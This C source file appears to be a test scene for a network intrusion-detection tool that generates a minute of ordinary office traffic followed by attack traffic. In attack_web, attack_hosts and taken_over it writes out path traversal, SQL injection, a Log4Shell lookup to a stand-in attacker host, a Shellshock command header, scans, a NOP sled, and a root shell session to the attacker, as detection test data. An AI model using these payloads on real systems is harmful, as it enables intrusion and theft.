/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A small office, 192.168.10.0/24 and 2001:db8:10::/64, for a minute: names
 * are looked up, clocks set, pages read; and two hosts outside, 198.51.100.23
 * and 198.51.100.77, try what rules/demo.rules knows. All addresses are of the
 * ranges for documentation and private use (RFC 5737, 3849, 1918).
 */
#include <string.h>

#include "tests/tools/scene.h"

#define GATEWAY "192.168.10.1"
#define RESOLVER "192.168.10.53"
#define DESK "192.168.10.20"
#define LAPTOP "192.168.10.21"
#define WEB "192.168.10.80"
#define FILES "192.168.10.90"
#define OUTSIDE_WEB "203.0.113.80"
#define OUTSIDE_NTP "203.0.113.123"
#define SCANNER "198.51.100.23"
#define ATTACKER "198.51.100.77"

static const uint8_t outside_web[4] = { 203, 0, 113, 80 };

static void
arp(struct scene *s, const char *who, const char *whom)
{
	scene_arp(s, "0001", who, whom);
	scene_arp(s, "0002", whom, who);
}

/* Neighbour solicitation and advertisement (RFC 4861, section 4.3). */
static void
neighbour(struct scene *s)
{
	static const char target[] = "20010db8001000000000000000000020";

	scene_ip(s, 58, "2001:db8:10::1", "2001:db8:10::20");
	craft_poke8(&s->c, 14 + 7, 255); /* the hop limit it must have */
	craft_icmp(&s->c, 135, 0, 0);
	craft_hex(&s->c, target);
	craft_hex(&s->c, "0101 02000000000a");
	scene_send(s);
	scene_ip(s, 58, "2001:db8:10::20", "2001:db8:10::1");
	craft_poke8(&s->c, 14 + 7, 255);
	craft_icmp(&s->c, 136, 0, 0x60000000);
	craft_hex(&s->c, target);
	craft_hex(&s->c, "0201 02000000000b");
	scene_send(s);
}

static void
ntp(struct scene *s, const char *client)
{
	uint8_t message[48] = { 0x23, 0, 6, 0xec }; /* version 4, client */

	scene_udp(s, client, 123, OUTSIDE_NTP, 123, message, 48);
	message[0] = 0x24;
	message[1] = 2;
	scene_udp(s, OUTSIDE_NTP, 123, client, 123, message, 48);
}

/* A page of the given request; the answer is the same small one. */
static void
http(struct scene *s, const char *client, uint16_t port, const char *server,
    const char *request, const char *body)
{
	struct conn c = conn_open(s, client, port, server, 80);
	char answer[1024];

	conn_text(&c, CLIENT, request);
	snprintf(answer, sizeof(answer),
	    "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n"
	    "Content-Length: %zu\r\n\r\n%s", strlen(body), body);
	conn_text(&c, SERVER, answer);
	conn_close(&c);
}

#define HTTP_HEADERS                                                           \
	"Host: www.example.net\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n"    \
	"Accept: */*\r\n\r\n"

/* Something with the records of TLS 1.2, the inside of them random. */
static void
tls(struct scene *s, const char *client, uint16_t port, const char *server)
{
	static const struct {
		enum side from;
		uint8_t type;
		uint16_t len;
	} records[] = {
		{ CLIENT, 22, 180 }, { SERVER, 22, 900 }, { CLIENT, 22, 70 },
		{ SERVER, 22, 40 }, { CLIENT, 23, 220 }, { SERVER, 23, 1300 },
		{ SERVER, 23, 1100 }, { CLIENT, 23, 90 },
	};
	struct conn c = conn_open(s, client, port, server, 443);

	for (size_t i = 0; i < ARRAY_LEN(records); i++) {
		uint16_t len = records[i].len;
		uint8_t record[1400] = { records[i].type, 3, 3,
			(uint8_t)(len >> 8), (uint8_t)len };

		for (size_t b = 0; b < len; b++)
			record[5 + b] = scene_random(s);
		conn_send(&c, records[i].from, record, 5u + len);
	}
	conn_close(&c);
}

static void
mail(struct scene *s)
{
	struct conn c = conn_open(s, DESK, 50100, "203.0.113.25", 25);

	conn_text(&c, SERVER, "220 mail.example.net ESMTP\r\n");
	conn_text(&c, CLIENT, "EHLO desk.example.org\r\n");
	conn_text(&c, SERVER, "250 mail.example.net\r\n");
	conn_text(&c, CLIENT, "QUIT\r\n");
	conn_text(&c, SERVER, "221 bye\r\n");
	conn_close(&c);
}

static void
quiet_minute(struct scene *s)
{
	arp(s, DESK, GATEWAY);
	arp(s, LAPTOP, RESOLVER);
	neighbour(s);
	ntp(s, DESK);
	ntp(s, LAPTOP);
	scene_dns(s, DESK, RESOLVER, "www.example.net", outside_web);
	http(s, DESK, 50001, OUTSIDE_WEB, "GET / HTTP/1.1\r\n" HTTP_HEADERS,
	    "<html><body>Welcome</body></html>\n");
	scene_wait(s, 3000);
	for (uint16_t i = 1; i <= 3; i++) {
		scene_ping(s, LAPTOP, GATEWAY, i, 56);
		scene_wait(s, 1000);
	}
	scene_ping(s, "2001:db8:10::20", "2001:db8:10::1", 1, 56);
	scene_dns(s, LAPTOP, RESOLVER, "mail.example.net", outside_web);
	mail(s);
	tls(s, LAPTOP, 50002, OUTSIDE_WEB);
}

/* What runs from outside against the web server. */
static void
attack_web(struct scene *s)
{
	http(s, ATTACKER, 41001, WEB,
	    "GET /cgi-bin/view?file=../../../../etc/passwd HTTP/1.1\r\n"
	    HTTP_HEADERS, "no\n");
	http(s, ATTACKER, 41002, WEB,
	    "GET /item?id=7+UNION+SELECT+name,password+FROM+users HTTP/1.1\r\n"
	    "Host: www.example.org\r\nUser-Agent: sqlmap/1.7\r\n\r\n", "no\n");
	http(s, ATTACKER, 41003, WEB,
	    "GET / HTTP/1.1\r\nHost: www.example.org\r\n"
	    "X-Api-Version: ${jndi:ldap://198.51.100.77:1389/a}\r\n\r\n",
	    "no\n");
	http(s, ATTACKER, 41004, WEB,
	    "GET /cgi-bin/status HTTP/1.1\r\nHost: www.example.org\r\n"
	    "User-Agent: () { :; }; /bin/sh -c id\r\n\r\n", "no\n");
}

static void
attack_hosts(struct scene *s)
{
	static const uint8_t open_ports[] = { 21, 22, 80 };
	struct conn c;
	uint8_t sled[200];

	/* a port scan with the odd flags set, then one with none */
	for (size_t i = 0; i < sizeof(open_ports); i++)
		scene_segment(s, SCANNER, 45000, FILES, open_ports[i],
		    0x01 | 0x08 | 0x20);
	scene_segment(s, SCANNER, 45001, FILES, 80, 0);
	/* passwords tried, one connection each */
	for (uint16_t i = 0; i < 6; i++) {
		scene_segment(s, SCANNER, (uint16_t)(46000 + i), FILES, 22,
		    0x02);
		scene_wait(s, 200);
	}
	c = conn_open(s, SCANNER, 46100, FILES, 21);
	conn_text(&c, SERVER, "220 ready\r\n");
	conn_text(&c, CLIENT, "USER root\r\n");
	conn_text(&c, SERVER, "331 Password required\r\n");
	conn_close(&c);
	/* a long run of no-operations, and what they lead to */
	memset(sled, 0x90, sizeof(sled));
	memcpy(sled + sizeof(sled) - 8, "\xcc\xcc\xcc\xcc\xcc\xcc\xcc\xcc", 8);
	c = conn_open(s, ATTACKER, 41010, FILES, 9000);
	conn_send(&c, CLIENT, sled, sizeof(sled));
	conn_close(&c);
	scene_ping(s, SCANNER, DESK, 1, 1200);
	/* a redirect that would send the desk's traffic elsewhere */
	scene_ip(s, 1, SCANNER, DESK);
	craft_icmp(&s->c, 5, 1, 0xc6336417);
	craft_hex(&s->c, "45000020 00010000 401173bf c0a80a14 cb007150"
	    "c3510050 000c0000");
	scene_send(s);
}

/* What a machine inside does once it is taken over. */
static void
taken_over(struct scene *s)
{
	static const char eicar[] =
	    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!"
	    "$H+H*";
	struct conn c;

	scene_dns(s, DESK, RESOLVER, "update.botnet.example", NULL);
	http(s, DESK, 50200, OUTSIDE_WEB,
	    "GET /eicar.com HTTP/1.1\r\n" HTTP_HEADERS, eicar);
	c = conn_open(s, DESK, 50300, ATTACKER, 31337);
	conn_text(&c, SERVER, "id\n");
	conn_text(&c, CLIENT, "uid=0(root) gid=0(root) groups=0(root)\n");
	conn_close(&c);
	c = conn_open(s, "2001:db8:10::20", 50301, "2001:db8:bad::1", 6667);
	conn_text(&c, CLIENT, "NICK desk20\r\nUSER a b c d\r\n");
	conn_text(&c, CLIENT, "JOIN #owned\r\n");
	conn_close(&c);
}

void
scene_demo(struct scene *s)
{
	quiet_minute(s);
	scene_wait(s, 5000);
	attack_web(s);
	scene_wait(s, 5000);
	attack_hosts(s);
	scene_wait(s, 5000);
	taken_over(s);
	scene_wait(s, 5000);
	ntp(s, DESK);
	http(s, LAPTOP, 50003, OUTSIDE_WEB,
	    "GET /news HTTP/1.1\r\n" HTTP_HEADERS,
	    "<html><body>Nothing new</body></html>\n");
}
